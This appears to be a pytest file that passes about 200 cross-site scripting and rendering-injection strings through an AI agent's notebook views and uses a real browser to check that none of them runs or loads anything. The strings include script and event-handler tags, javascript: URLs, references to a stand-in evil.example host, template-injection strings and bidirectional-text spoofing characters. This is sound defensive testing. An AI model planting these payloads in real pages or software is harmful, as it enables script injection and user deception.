"""200 strings that would like to be more than text, wherever text of a model or a tool stands: live, saved, as Markdown.

Nothing in them runs, nothing is loaded from anywhere, and all of them can be read. In a real browser, since only that knows what
it would have run.
"""

import json
from contextlib import closing
from dataclasses import replace
from itertools import product
from pathlib import Path

import pytest
from lab_server import browser
from nbconvert.filters import markdown2html
from samples import ALL, count, reply, request

from nb_agent.events import Delta, ReplyDone, RequestReady, RunEnded, RunStarted, Step, ToolAsked, ToolDone
from nb_agent.messages import Image, Message, Piece, Text, Thinking, ToolCall, ToolResult
from nb_agent.values import dumps
from nb_agent.views import fold as folding
from nb_agent.views import html, markdown, saved, text
from nb_agent.views.words import visible

STATIC = Path(folding.__file__).parent / "static"
EVIL = "http://evil.example/x"
RUN = "window.owned=1"

TAGS = [
    f"<script>{RUN}</script>",
    f"<script src={EVIL}.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={EVIL}.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><image href={EVIL}.svg></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y=9>press</text></a></svg>',
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
    f"<body onload={RUN}>",
    f"<video src={EVIL}.mp4 onerror={RUN} autoplay>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f'<object data="{EVIL}"></object>',
    f"<embed src={EVIL}>",
    f"<link rel=stylesheet href={EVIL}.css>",
    f"<style>@import '{EVIL}.css';*{{display:none!important}}</style>",
    f"<base href={EVIL}>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f"<form action={EVIL}><button>send</button></form>",
    f'<a href="javascript:{RUN}">press</a>',
    f"<table background={EVIL}.png><td>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
]
BREAKS = ["", "\"'>", "</code></pre></details>", "\n\n`````\n\n"]
ATTRIBUTES = [
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}" x="',
    f"x onclick={RUN} ",
    f'" style="background:url({EVIL}.png)',
    f"`-{RUN}-`",
    f'"></option></select><img src=x onerror={RUN}>',
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"//{EVIL[7:]}",
    f"url({EVIL})",
]
ADDRESSES = [f"javascript:{RUN}", EVIL, f"data:text/html;base64,PHNjcmlwdD4{RUN}"]
MARKDOWN = [
    "[press]({})",
    "![picture]({})",
    "<{}>",
    "[press][1]\n\n[1]: {}",
    '![p]({} "title")',
    "[![p]({})]({})",
    "# title\n\n[a]({})",
    "| a | [b]({}) |\n|---|---|",
    "> [a]({})",
    "- [x] [a]({})",
    "`[a]({})`` [a]({})",
    "```\n[a]({})\n```\n[a]({})",
    "~~~\n~~~\n![a]({})",
    "***[a]({})***",
]
OTHERS = [
    *(
        "&lt;script&gt;",
        "&#60;script&#62;",
        "&#x3c;img src=x&#x3e;",
        "&amp;lt;b&amp;gt;",
        "&quot;&apos;&nbsp;",
        "&colon;",
        "&NewLine;",
    ),
    *("{{constructor.constructor('window.owned=1')()}}", "${window.owned=1}", "#{owned}", "<%= owned %>", "{% raw %}", "{{7*7}}"),
    *("$$\\href{javascript:window.owned=1}{x}$$", "\\(\\require{html}\\)", "\\[x\\]", "$`a`$", "\\`escaped\\`"),
    *(
        "\u202etxt.exe\u202c",
        "\u2066a\u2069b",
        "\u2067ab\u2069",
        "\u202aab\u202c",
        "\u202babc",
        "\u202dabc",
        "\u200fabc",
        "\u061cabc",
    ),
    *("a\u2028b", "a\u2029b", "zero\u200bwidth", "\ufeffmark", "\x1b[31mred\x1b[0m", "\x00null", "\x9b31m"),
    *(
        "]]>",
        "-->",
        "<!--",
        "<![CDATA[x]]>",
        "</textarea>",
        "</title>",
        "</style>",
        "</script>",
        "<",
        "&",
        "`",
        "``",
        "```",
        "~~~~",
    ),
]
STRINGS = [
    *(broken + tag for tag, broken in product(TAGS, BREAKS)),
    *ATTRIBUTES,
    *(form.replace("{}", address) for form, address in product(MARKDOWN, ADDRESSES)),
    *OTHERS,
]


def hostile_run():
    """Each string as a tool's name, an argument, a result, an error, a note, a print, an answer, a thought, a notice."""
    messages = [{"role": "system", "content": STRINGS[0]}, {"role": "user", "content": "\n".join(STRINGS)}]
    yield RunStarted(STRINGS[1], STRINGS[2], "chat_completions", window=8192)
    for number, start in enumerate(range(0, len(STRINGS), 10), 1):
        here = STRINGS[start : start + 10]
        calls = [ToolCall(f"{number}-{place}", one, dumps({one: one})) for place, one in enumerate(here)]
        yield RequestReady(number, request(messages, STRINGS[2]), tuple(here))
        yield Delta(number, tuple(Piece("text", one) for one in here), 0.1)
        sent = reply(number, "\n".join(here), calls)
        message = Message("assistant", (Thinking("\n".join(here)), *sent.message.parts))
        sent = replace(sent, message=message, raw_finish=here[1], body=sent.body | {"x": here}, notices=tuple(here))
        yield ReplyDone(number, sent, 0.1)
        for call in calls:
            one = call.name
            picture = Image(data=None, media_type="image/png", url=one)
            yield ToolAsked(number, call, ALL[:4])
            steps = (*ALL[:4], Step("run", "failed", one))
            done = ToolResult(call.id, one, (Text(one),), "tool_failed")
            yield ToolDone(number, done, steps, 0.1, traceback=one, printed=one, whole=one, pictures=(picture,))
            messages = [*messages, {"role": "tool", "tool_call_id": call.id, "content": one}]
    yield RunEnded("error", (), error="\n".join(STRINGS))


@pytest.fixture(scope="module")
def state():
    folding_here = folding.Fold(count)
    for event in hostile_run():
        folding_here.apply(event)
    branch = {"label": STRINGS[0], "from_round": 1, "state": folding_here.state | {"branches": []}}
    return folding_here.state | {"branches": [branch]}


@pytest.fixture(scope="module")
def chromium():
    with browser() as chromium:
        yield chromium


@pytest.fixture
def opened(chromium):
    """Opens a page of HTML; nothing on it may have run, asked for anything, or gone elsewhere."""
    with closing(chromium.new_page()) as page:
        page.set_default_timeout(20_000)
        asked, said = [], []
        page.on("request", lambda request: asked.append(request.url) if not request.url.startswith("blob:") else None)
        page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
        page.on("pageerror", lambda error: said.append(str(error)))
        page.on("console", lambda one: said.append(one.text) if one.type == "error" else None)

        def show(content):
            page.set_content(f'<!doctype html><meta charset="utf-8"><div id="here">{content}</div>')
            return page

        yield show
        assert page.evaluate("window.owned") is None
        assert (asked, said, page.url) == ([], [], "about:blank")


def unread(seen, strings=STRINGS):
    """The strings that a reader does not find in what is seen."""
    return [one for one in strings if one not in seen and visible(one) not in seen]


def test_there_are_two_hundred_of_them():
    assert len(set(STRINGS)) == len(STRINGS) >= 200


PARTS = ["h4", "p", "code", "pre", "table", "thead", "tbody", "tr", "td", "ul", "li"]
NAMES = "() => [...new Set([...document.querySelectorAll('#here *')].map((one) => one.tagName.toLowerCase()))]"
ATTRIBUTES_SEEN = "() => [...new Set([...document.querySelectorAll('#here *')].flatMap((one) => one.getAttributeNames()))]"


def test_the_saved_page_shows_them_as_text(opened, state):
    page = opened(html.page(state))
    page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
    assert unread(page.locator("#here").text_content()) == []
    assert unread("\n".join(page.locator("pre").all_text_contents())) == []
    assert set(page.evaluate(NAMES)) <= {*PARTS, "div", "style", "h3", "b", "caption", "th", "span", "details", "summary", "ol"}
    assert set(page.evaluate(ATTRIBUTES_SEEN)) <= {"class", "style", "scope", "title", "open"}


def test_markdown_shows_them_as_text(opened, state):
    page = opened(markdown2html(markdown.markdown(state)))
    blocks = "\n".join(page.locator("pre").all_text_contents())
    assert unread(blocks) == []
    assert set(page.evaluate(NAMES)) <= {*PARTS, "h3", "strong", "th", "div", "span", "a"}
    links = page.locator("a").evaluate_all("(links) => links.map((link) => [link.className, link.getAttribute('href')[0]])")
    assert set(map(tuple, links)) == {("anchor-link", "#")}, "nbconvert's own, at each heading"


def test_text_shows_them_one_line_for_each_of_theirs(state):
    shown = text.text(state)
    assert unread(shown, [one for one in STRINGS if "\n" not in one]) == []
    unseen = {sign for sign in shown if not sign.isprintable() and sign not in "\t\n"}
    assert unseen <= set("\u200b\u200f\u061c\ufeff"), "these turn nothing round and move no cursor"


def test_the_bundle_keeps_them_as_they_were(state):
    assert saved.opened(json.loads(json.dumps(saved.saved(state)[saved.MIME]))) == state


WALK = """async (state) => {
    const m = await import(URL.createObjectURL(new Blob([source], { type: "text/javascript" })));
    const here = document.getElementById("here");
    m.mount(here, state, { answer: () => {} });
    const seen = [];
    const read = () => seen.push(here.textContent, ...[...here.querySelectorAll("input, textarea")].map((one) => one.value));
    const items = [...here.querySelectorAll(".nba-item")];
    for (const item of items) {
        item.click();
        read();
        const pane = here.querySelector(".nba-pane");
        for (let place = 1; place < pane.querySelectorAll("[role=tab]").length; place += 1) {
            pane.querySelectorAll("[role=tab]")[place].click();
            read();
        }
    }
    for (const one of here.querySelectorAll("a, img, iframe, script, object, embed, link, form, base, meta, svg, style")) {
        seen.push(`ELEMENT ${one.outerHTML}`);
    }
    return [items.length, seen.join("\\n")];
}"""


def test_the_inspector_shows_them_as_text(opened, state):
    css, js = ((STATIC / name).read_text(encoding="utf-8") for name in ("inspector.css", "inspector.js"))
    page = opened("")
    page.add_style_tag(content=css)
    page.evaluate("(text) => { window.source = text; }", js)
    number, seen = page.evaluate(WALK, state)
    assert number > len(STRINGS)
    assert unread(seen) == []
    assert "ELEMENT" not in seen
